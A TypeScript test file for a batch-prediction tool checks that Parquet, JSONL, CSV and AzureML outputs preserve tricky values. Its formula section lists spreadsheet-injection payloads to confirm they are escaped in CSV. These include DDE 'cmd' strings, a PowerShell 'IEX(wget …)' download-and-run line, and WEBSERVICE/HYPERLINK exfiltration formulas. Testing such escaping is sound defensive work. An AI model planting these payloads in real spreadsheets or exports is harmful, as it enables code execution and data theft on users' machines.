import { execFile } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { promisify } from "node:util";
import { DuckDBInstance } from "@duckdb/node-api";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { batchdeck, deploy } from "../../helpers/batchdeck.ts";
import { denseModel, everyTypeModel, stringModel } from "../../helpers/models/model-fixtures.ts";
import { temporaryPlaces } from "../../helpers/places.ts";

/** One job, in every format: what each file holds is read back by other programs than ours. */

const { root, home, input } = temporaryPlaces("formats");

/** Texts that formats are known to stumble over. */
const texts: readonly (string | null)[] = [
  "",
  null,
  "plain",
  "two words",
  " lead and trail ",
  "a,b",
  'say "hi"',
  '"',
  "two\nlines",
  "cr\rhere",
  "crlf\r\nhere",
  "tab\there",
  "back\\slash \\n \\u0041",
  "nul\0here",
  "\u0001\u001f\u007f",
  "é 日本語 😀 עברית",
  "e\u0301",
  "\u2028\u2029\ufeff",
  "007",
  "null",
  "NaN",
  "true",
  "'quoted'",
  "=1+1",
  "-2+3",
  "@SUM(A1)",
  "{}[]:;",
  "x".repeat(5000),
];
const int64s = ["0", "-1", "9007199254740993", "-9007199254740993", "9223372036854775807", "-9223372036854775808"];
const uint64s = ["0", "1", "9007199254740993", "18446744073709551615", "9223372036854775808", "4294967296"];
const float32s = [
  "0",
  "-0",
  "0.1",
  "1e-45",
  "3.4028234663852886e38",
  "1e-7",
  "16777217",
  "NaN",
  "inf",
  "-inf",
  "123456792",
];
const float16s = ["0", "-0", "0.1", "65504", "6e-8", "0.333", "1", "NaN", "inf", "-inf", "0.0001"];
const float64s = ["0", "-0", "0.1", "5e-324", "1.7976931348623157e308", "1e21", "1e16", "NaN", "inf", "-inf", "1e-7"];

const records = texts.map((text, index) => ({
  id: text,
  note: texts[texts.length - 1 - index] as string | null,
  in_single: float32s[index % float32s.length] as string,
  in_half: float16s[index % float16s.length] as string,
  in_double: float64s[index % float64s.length] as string,
  in_signed: int64s[index % int64s.length] as string,
  in_unsigned: uint64s[index % uint64s.length] as string,
  in_flag: index % 2 === 0 ? "true" : "false",
  // ONNX Runtime's binding cuts a text at a NUL; columns that are only kept go past it.
  in_word: (text ?? "none").replace("\0", ""),
}));

const types = "single FLOAT, half FLOAT, double DOUBLE, signed BIGINT, unsigned UBIGINT, flag BOOLEAN, word VARCHAR";

const out = (job: string, file: string) => path.join(root, job, file);

async function invoke(job: string, format: string, ...more: string[]): Promise<void> {
  const ran = await batchdeck(
    home,
    ...["invoke", "-n", "types", "--input", input, "--output-path", path.join(root, job), "--job-name", job],
    ...["--set", `batchdeck.output_format=${format}`, ...more],
  );
  expect(ran.code, ran.stderr).toBe(0);
}

let database: DuckDBInstance;

beforeAll(async () => {
  database = await DuckDBInstance.create(":memory:");
  fs.mkdirSync(input, { recursive: true });
  const half = Math.ceil(records.length / 2);
  for (const [name, some] of [
    ["a b.jsonl", records.slice(0, half)],
    ["c,d.jsonl", records.slice(half)],
  ] as const) {
    fs.writeFileSync(path.join(input, name), some.map((record) => `${JSON.stringify(record)}\n`).join(""));
  }
  await deploy(home, "types", everyTypeModel(), { scorer: "input: {missing: nan}\noutput: {keep: [id, note]}\n" });
});
afterAll(() => database.closeSync());

async function queried(sql: string): Promise<unknown[][]> {
  const connection = await database.connect();
  try {
    return (await connection.runAndReadAll(sql)).getRowsJS().map((row) => [...row]);
  } finally {
    connection.closeSync();
  }
}

const columns = `{${["id VARCHAR", "note VARCHAR", ...types.split(", ")]
  .map((column) => column.split(" "))
  .map(([name, type]) => `'${name}': '${type}'`)
  .join(", ")}}`;

const readers = {
  parquet: () => `SELECT * FROM read_parquet('${out("in-parquet", "predictions.parquet")}')`,
  jsonl: () =>
    `SELECT * FROM read_json('${out("in-jsonl", "predictions.jsonl")}', format = 'newline_delimited', columns = ${columns})`,
  csv: () =>
    `SELECT * FROM read_csv('${out("in-csv", "predictions.csv")}', auto_detect = false, header = true, delim = ',', quote = '"', escape = '"', new_line = '\\n', columns = ${columns}, nullstr = 'no such text')`,
} as const;

describe("the same job in every format", () => {
  test("Parquet, JSON lines and CSV hold the same values, read back by DuckDB", async () => {
    await Promise.all([
      invoke("in-parquet", "parquet"),
      invoke("in-jsonl", "jsonl"),
      invoke("in-csv", "csv", "--set", "batchdeck.csv_formulas=keep"),
    ]);
    const parquet = await queried(readers.parquet());
    expect(parquet).toHaveLength(records.length);
    expect(parquet.map((row) => row.slice(0, 2))).toEqual(records.map(({ id, note }) => [id, note]));
    expect(parquet.map((row) => [row[5], row[6]])).toEqual(
      records.map(({ in_signed, in_unsigned }) => [BigInt(in_signed), BigInt(in_unsigned)]),
    );
    expect(parquet.map((row) => row[8])).toEqual(records.map(({ in_word }) => in_word));
    expect(await queried(readers.jsonl())).toEqual(parquet);
    // A CSV cell that is empty is an empty text or none at all: the one thing that CSV cannot tell.
    const withoutNulls = parquet.map((row) => row.map((cell) => cell ?? ""));
    expect((await queried(readers.csv())).map((row) => row.map((cell) => cell ?? ""))).toEqual(withoutNulls);
  });
});

/** What pandas itself writes: an independent judge of Azure's bytes. */
async function writtenByPandas(script: string): Promise<string> {
  const { stdout } = await promisify(execFile)("/usr/bin/python3", ["-X", "utf8", "-c", script], {
    maxBuffer: 64 << 20,
    env: { ...process.env, PYTHONIOENCODING: "utf-8:surrogatepass" },
  });
  return stdout;
}

/** The values of this test as numpy arrays of their types. */
const frame = `
import json, sys, numpy as np, pandas as pd
rows = [json.loads(line) for name in ("a b.jsonl", "c,d.jsonl") for line in open(${JSON.stringify(input)} + "/" + name, encoding="utf-8", newline="\\n")]
number = lambda name, kind: np.array([float(row["in_" + name]) for row in rows]).astype(kind)
outputs = {
  "single": number("single", np.float32), "half": number("half", np.float16), "double": number("double", np.float64),
  "signed": np.array([int(row["in_signed"]) for row in rows], dtype=np.int64),
  "unsigned": np.array([int(row["in_unsigned"]) for row in rows], dtype=np.uint64),
  "flag": np.array([row["in_flag"] == "true" for row in rows]),
  "word": [row["in_word"] for row in rows],
}
sys.stdout.reconfigure(newline="")
`;

describe("Azure's own bytes", () => {
  test("are those of pandas' to_csv over the same columns: spaces, no header, quotes where needed", async () => {
    await invoke("azure-frame", "azureml");
    const expected = await writtenByPandas(
      `${frame}\nkept = {"id": [row["id"] for row in rows], "note": [row["note"] for row in rows]}\nsys.stdout.write(pd.DataFrame({**kept, **outputs}).to_csv(sep=" ", header=False, index=False))`,
    );
    expect(fs.readFileSync(out("azure-frame", "predictions.csv"), "utf8")).toBe(expected);
  });
});

const formulas: readonly string[] = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "=cmd|'/c powershell IEX(wget 0r.pe/p)'!A1",
  '=HYPERLINK("http://example.org?x="&A1,"click")',
  '=WEBSERVICE("http://example.org/"&A1)',
  '=IMPORTXML(CONCAT("http://example.org?v=",A2),"//a")',
  '=DDE("cmd","/C calc","x")',
  "=2+5+cmd|' /C calc'!A0",
  "=A1",
  "==1",
  "=",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "+31 6 12345678",
  "+31612345678+",
  "+",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "-inf",
  "-",
  "--5",
  "-5 ",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@A1",
  "@",
  "\t=1+1",
  "\r=1+1",
  "\0=1+1",
  "=1,2",
  '="a""b"',
  "=1\n+1",
  "-1e",
  "+1.2.3",
];
/** Texts that no spreadsheet takes for a formula, or that are numbers: they stay as they are. */
const harmless: readonly string[] = [
  "-5",
  "+3.25",
  "1e5",
  "-1e-5",
  "-.5",
  "2026-01-31",
  "a=1",
  " =1+1",
  "'=1",
  "007",
  "1-2",
];

const numberPattern = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

describe("text that a spreadsheet would take for a formula", () => {
  const payloads = [...formulas, ...harmless];
  /** Those that convert, and so do not fail where a number is asked for. */
  const numbers = payloads.filter((text) => numberPattern.test(text.trim()) || text === "-inf");
  const from = path.join(root, "=input");
  const jobs = ["escaped", "kept", "as-jsonl", "as-parquet"] as const;
  const settings: Readonly<Record<(typeof jobs)[number], readonly string[]>> = {
    escaped: [],
    kept: ["--set", "batchdeck.csv_formulas=keep"],
    "as-jsonl": ["--set", "batchdeck.output_format=jsonl"],
    "as-parquet": ["--set", "batchdeck.output_format=parquet"],
  };

  beforeAll(async () => {
    fs.mkdirSync(from);
    // What the model reads has no NUL, which would fail its row.
    const lines = payloads.map((text) => {
      return `${JSON.stringify({ "=key": text, "@id": "x", city: text.replaceAll("\0", "") })}\n`;
    });
    // Every payload once more in a cell that does not convert, under names that are formulas themselves.
    const broken = payloads.map((text) => `${JSON.stringify({ "=key": text, "@id": "x", city: text, code: text })}\n`);
    fs.writeFileSync(path.join(from, "=1+1.jsonl"), lines.join(""));
    await deploy(home, "words", stringModel(), { scorer: 'output: {keep: ["=key", "@id"]}\n' });
    const broke = path.join(root, "broken");
    fs.mkdirSync(broke);
    fs.writeFileSync(path.join(broke, "@SUM(1).jsonl"), broken.join("").replaceAll('"code"', '"f0"'));
    await deploy(home, "numbers", denseModel({ features: 1 }), {
      scorer: "input: {columns: {features: [f0]}}\n",
    });
    for (const job of jobs) {
      const ran = await batchdeck(
        home,
        ...["invoke", "-n", "words", "--input", from, "--output-path", path.join(root, job), ...settings[job]],
      );
      expect(ran.code, ran.stderr).toBe(0);
    }
    const failed = await batchdeck(
      home,
      "invoke",
      "-n",
      "numbers",
      "--input",
      broke,
      "--output-path",
      path.join(root, "failed"),
    );
    expect(failed.code, failed.stderr).toBe(3);
  });

  const csv = (file: string, width = 4) => {
    const named = Array.from({ length: width }, (_, index) => `'c${index}': 'VARCHAR'`).join(", ");
    return queried(
      `SELECT * FROM read_csv('${file}', auto_detect = false, header = false, delim = ',', quote = '"', escape = '"', new_line = '\\n', nullstr = 'no such text', columns = {${named}})`,
    );
  };

  test("gets an apostrophe in CSV, in its header and in errors.csv; numbers and harmless texts do not", async () => {
    const [header, ...rows] = await csv(out("escaped", "predictions.csv"));
    expect(header).toEqual(["'=key", "'@id", "country", "code"]);
    expect(rows.map((row) => row[0])).toEqual([...formulas.map((text) => `'${text}`), ...harmless]);
    const [, ...errors] = await csv(out("failed", "errors.csv"), 6);
    expect(errors).toHaveLength(payloads.length - numbers.length);
    const isFormula = (cell: unknown) => /^[=+@\t\r\0-]/.test(String(cell)) && !numberPattern.test(String(cell));
    expect(errors.flat().filter(isFormula)).toEqual([]);
    expect(errors.map((row) => row[0])).toEqual(errors.map(() => "'@SUM(1).jsonl"));
    expect(errors.map((row) => row[5])).toContain(`'=HYPERLINK("http://example.org?x="&A1,"click")`);
  });

  test("stays as it is where that is asked for, in JSON lines and in Parquet", async () => {
    const [, ...kept] = await csv(out("kept", "predictions.csv"));
    expect(kept.map((row) => row[0])).toEqual(payloads);
    const parquet = await queried(`SELECT "=key" FROM read_parquet('${out("as-parquet", "predictions.parquet")}')`);
    expect(parquet.map((row) => row[0])).toEqual(payloads);
    const jsonl = await queried(
      `SELECT "=key" FROM read_json('${out("as-jsonl", "predictions.jsonl")}', format = 'newline_delimited', columns = {'=key': 'VARCHAR'})`,
    );
    expect(jsonl.map((row) => row[0])).toEqual(payloads);
  });

  test("is seen to be neutralised: job.json says so", () => {
    const record = JSON.parse(fs.readFileSync(out("escaped", "job.json"), "utf8")) as { output: unknown };
    expect(record.output).toEqual({ file: "predictions.csv", format: "csv", csv_formulas: "escape" });
  });
});

test("a job whose rows are only counted writes no file of rows in these formats either", async () => {
  await deploy(home, "counted", stringModel(), { settings: ["output_action: summary_only"] });
  for (const format of ["jsonl", "azureml"]) {
    const job = `counted-${format}`;
    const ran = await batchdeck(
      home,
      ...["invoke", "-n", "counted", "--input", path.join(root, "=input"), "--output-path", path.join(root, job)],
      ...["--set", `batchdeck.output_format=${format}`],
    );
    expect(ran.code, ran.stderr).toBe(0);
    expect(fs.readdirSync(path.join(root, job)).sort()).toEqual(["errors.csv", "job.json"]);
  }
});
